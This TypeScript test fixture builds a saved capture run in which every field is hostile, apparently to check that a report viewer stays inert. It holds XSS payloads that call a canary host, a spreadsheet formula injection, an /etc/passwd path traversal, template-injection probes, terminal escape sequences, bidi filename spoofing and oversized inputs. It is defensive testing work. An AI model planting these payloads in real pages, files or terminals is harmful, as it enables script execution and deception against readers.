// A run of which everything captured is made to do harm to whoever reads a report of it.
import { RunFixture } from './saved-run.ts';

/** An address that only a page that ran or loaded something would ask for. */
export const trapHost = 'trap.invalid';

/** Everything a page, a terminal, a table or a file name could trip over; `mark` tells the places apart. */
export function hostileText(mark: string): string {
  return [
    `</script></style></title></svg><script>fetch('http://${trapHost}/${mark}');window.ran='${mark}'</script>`,
    `<img src="http://${trapHost}/${mark}.png" onerror="window.ran='${mark}'"><svg onload=alert(2)>`,
    `"><iframe src="http://${trapHost}/${mark}"></iframe><link rel=stylesheet href=//${trapHost}/${mark}>`,
    `\u202egnp.exe\u202c \u2066x\u2069 \u200b \u001b[2J\u001b]0;owned\u0007 \u0000 \u009b31m`,
    `=HYPERLINK("http://${trapHost}/${mark}") ../../../../etc/passwd @media{*{background:url(//${trapHost})}}`,
    `]]> <!-- --> {{7*7}} \${7*7} %00 [link](javascript:alert(1)) | \`x\``,
  ].join(' ');
}

/** Two cases; hosts, headers, addresses, titles, JSON keys and values, cookies, reasons and steps are all hostile. */
export function hostileRun(): RunFixture {
  const run = new RunFixture({ notes: [hostileText('note')] });
  for (const mode of ['normal', 'incognito'] as const) {
    const one = run.addCase({ mode });
    const mark = (name: string) => hostileText(`${mode}-${name}`);
    one
      .drive({ title: mark('title') })
      .step('odd', mark('step'))
      .sensors({ distinctId: mark('id'), words: `${one.words} ${mark('words')}` })
      .request({
        url: `https://sa.api.intl.miui.com/${encodeURI(mark('path')).slice(0, 400)}?q=<script>window.ran=1</script>`,
        method: 'POST',
        headers: [
          ['X-Evil', mark('header')],
          ['X-Long', 'h'.repeat(10_000_000)],
          ['Cookie', `a=${mark('cookie')}`],
        ],
        body: JSON.stringify({ [mark('key')]: one.words, [`\u202e${one.page}`]: mark('value') }),
        answer: { body: mark('answer'), headers: [['Content-Type', mark('type')]] },
      })
      .request({
        url: 'https://tracking.intl.miui.com/x',
        method: 'POST',
        body: Buffer.concat([
          Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
          Buffer.from(`w=${one.words}`),
        ]),
      })
      .request({
        url: `https://${'a'.repeat(50)}.${'b'.repeat(60)}.example/${'p'.repeat(200_000)}`,
        method: 'POST',
        body: `w=${one.words}`,
      })
      .tlsFailure(mark('tls'), mark('cause'))
      .clientError(mark('client'), mark('error'))
      .closed(mode === 'normal' ? {} : { outcome: 'failed', reason: mark('reason') });
  }
  return run;
}
